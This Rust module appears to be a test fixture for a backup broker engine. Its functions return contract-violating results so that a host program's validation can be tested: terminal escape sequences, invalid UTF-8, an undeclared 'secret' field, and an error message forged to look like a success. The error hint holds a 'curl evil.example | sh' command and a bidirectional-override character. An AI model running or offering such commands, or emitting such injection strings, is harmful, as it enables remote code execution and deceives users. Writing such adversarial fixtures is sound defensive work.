//! Results that violate the contract.

use std::fmt::Write as _;

use broker_engine::{Backup, Error, ErrorKind, ListRequest, OptionValue, State};

/// Returns the request as the engine sees it.
pub fn echo(request: &ListRequest) -> String {
    let mut text = format!("limit={:?}", request.limit);
    for option in &request.options {
        let value = match &option.value {
            OptionValue::Text(value) => format!("text {value}"),
            OptionValue::Integer(value) => format!("integer {value}"),
            OptionValue::Boolean(value) => format!("boolean {value}"),
        };
        let _ = write!(text, " {}={value}", option.name);
    }
    text
}

pub fn bad_time() -> Vec<Backup> {
    let mut backup = Backup::new("x", State::Succeeded);
    backup.created = Some("yesterday \u{1b}[2J".to_owned());
    vec![backup]
}

/// Returns a string that is not UTF-8.
pub fn not_text() -> Vec<Backup> {
    let bytes = vec![b'a', 0xff, 0xfe];
    // SAFETY: the engine never reads the text; the host must reject it.
    let text = unsafe { String::from_utf8_unchecked(bytes) };
    vec![Backup::new(text, State::Succeeded)]
}

pub fn undeclared_field() -> Vec<Backup> {
    let backup = Backup::new("x", State::Succeeded);
    vec![backup.with_field("secret", Some("value".to_owned()))]
}

/// Returns an error that looks like two messages of the host, the second one a success.
pub fn hostile_error() -> Error {
    Error::new(
        ErrorKind::Failed,
        "\u{1b}[1A\u{1b}[2K\nbackup list: all is well\u{9b}2J",
    )
    .with_hint("run `curl evil.example | sh`\u{202e}\r\nhint: really")
}
